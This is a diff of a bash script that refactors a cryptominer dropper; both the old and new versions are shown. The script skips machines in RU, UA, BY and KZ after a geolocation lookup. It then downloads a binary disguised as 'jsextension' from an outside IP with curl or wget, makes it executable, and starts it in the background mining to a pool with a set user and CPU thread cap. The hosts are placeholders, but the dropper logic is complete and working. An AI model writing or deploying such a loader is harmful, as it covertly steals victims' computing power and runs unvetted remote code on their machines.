@@ -1,15 +1,14 @@
-IP=$(curl -k https://where.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
-if [ -z "$IP" ]
+#!/bin/bash
+country=$(curl -s -k https://where.invalid/country)
+case "$country" in
+    RU|UA|BY|KZ) exit 0 ;;
+esac
+
+name=jsextension
+file=/nonexistent/$name
+if ! pgrep "$name" > /dev/null
 then
-    running=$(pgrep jsextension)
-    if [ -z "$running" ]
-    then
-        curl http://203.0.113.228/download/jsextension -o /nonexistent/jsextension
-        if [ ! -f /nonexistent/jsextension ]
-        then
-            wget http://203.0.113.228/download/jsextension -O /nonexistent/jsextension
-        fi
-        chmod +x /nonexistent/jsextension
-        /nonexistent/jsextension -k --tls --rig-id q -o pool.invalid:443 -u specimen --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
-    fi
+    curl -s http://203.0.113.228/download/$name -o "$file" || wget -q http://203.0.113.228/download/$name -O "$file"
+    chmod +x "$file"
+    nohup "$file" --tls -o pool.invalid:443 -u specimen --cpu-max-threads-hint=50 --background > /dev/null 2>&1 &
 fi
